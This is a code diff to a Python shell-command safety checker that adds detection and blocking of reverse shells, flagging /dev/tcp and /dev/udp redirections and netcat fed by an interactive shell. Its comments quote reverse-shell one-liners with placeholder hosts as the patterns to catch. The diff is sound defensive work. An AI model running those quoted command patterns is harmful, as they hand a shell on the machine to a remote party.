@@ -15,9 +15,10 @@ import shlex
 from dataclasses import replace
 
 from reos.model import RiskLevel
+from reos.safety.acting_files import special_tree
 from reos.safety.expand import substitutions
 from reos.safety.grammar import reads_only, reads_only_whatever, spec_for
-from reos.safety.grammar_checks import safe_assignment, special_tree
+from reos.safety.grammar_checks import safe_assignment
 from reos.safety.judge_code import CodeJudge
 from reos.safety.judge_memory import Memory
 from reos.safety.launchers import Launch, open_launcher
@@ -81,6 +82,7 @@ class Judge(Memory, CodeJudge):
         self.written: dict[str, str] = {}  # files it writes, with their known content
         self.cwd: str | None = None  # the directory `cd` moved to (None: where reos runs)
         self.path_changed = False  # PATH was set: bare program names are no longer known
+        self.network_fd = False  # a redirection opened /dev/tcp or /dev/udp
 
     def mutates(self, why: str | None = None) -> None:
         self.read_only = False
@@ -92,7 +94,7 @@ class Judge(Memory, CodeJudge):
         shell text, whatever its words known only at run time (`$X`, `*`) turn out to be.
         True when the grammar proved it only reads."""
         if command is not None and argv[1:] == command.argv[1:]:
-            proof = reads_only_whatever(argv, command.dynamic)
+            proof = reads_only_whatever(argv, command.dynamic, quoted=command.quoted)
             if proof.ok and command.globbed:
                 proof = reads_only_whatever(argv, command.globbed, devices=False)
             from reos.safety.streams import stdin_fed  # shell text only: plan steps skip it
@@ -251,8 +253,10 @@ class Judge(Memory, CodeJudge):
         self.argv(command.argv, ctx, depth, command, command.env, command.procsubs)
 
     def redirect(self, redirect: Redirect, ctx: Context) -> None:
+        if redirect.target.startswith(("/dev/tcp/", "/dev/udp/")):
+            self.network_fd = True
         if redirect.op in ("<", "<&") and not redirect.target.isdigit():
-            from reos.safety.grammar_checks import device
+            from reos.safety.acting_files import device
 
             why = device(redirect.target)  # `< /dev/watchdog`: opening it acts
             if why:
@@ -286,6 +290,10 @@ class Judge(Memory, CodeJudge):
             stdin = stdin_of(command)
         word = argv[0]
         if dynamic(word):
+            if self.network_fd:  # `exec 5<>/dev/tcp/H/P; … read l; $l` runs what arrives
+                self.verdict.raise_to(RiskLevel.CRITICAL, "runs commands chosen at run time "
+                                      "beside a network connection (a reverse shell)",
+                                      block=True)
             self._unknown(ctx, "runs a program chosen at run time")
             return
         if self.downloaded and same_file(word) in self.downloaded:
@@ -325,6 +333,11 @@ class Judge(Memory, CodeJudge):
         if program in NETCATS and netcat_exec(argv):
             self.verdict.raise_to(RiskLevel.CRITICAL, f"{program} hands a shell or program to "
                                   "the network", block=True)
+        if program in NETCATS and command is not None and _shell_upstream(command):
+            self.verdict.raise_to(RiskLevel.CRITICAL, f"{program} sends the output of a shell "
+                                  "that reads its commands from elsewhere (a reverse shell)",
+                                  block=True)
+
         self._environment(env, ctx, depth)
         launch = open_launcher(argv) if not shallow or program in SHELLS else None
         if launch is not None:
@@ -551,6 +564,24 @@ class Judge(Memory, CodeJudge):
 
 
 _GLOB_START = frozenset("*?[")
+
+
+def _shell_upstream(command: SimpleCommand) -> bool:
+    """Whether a shell earlier in this pipeline reads its commands from its input (no
+    `-c`, no script): `cat fifo | sh -i | nc H P > fifo`."""
+    from reos.safety.programs import SHELLS
+
+    up = command.upstream
+    for _ in range(1000):
+        if up is None:
+            return False
+        words = up.argv[1:]
+        if up.program in SHELLS and not any(
+                w == "-c" or (w[:1] == "-" and w[1:2] != "-" and "c" in w) for w in words) \
+                and all(w.startswith(("-", "+")) for w in words):
+            return True
+        up = up.upstream
+    return False
 
 
 _DECLARES = frozenset({"export", "declare", "typeset", "local", "readonly"})
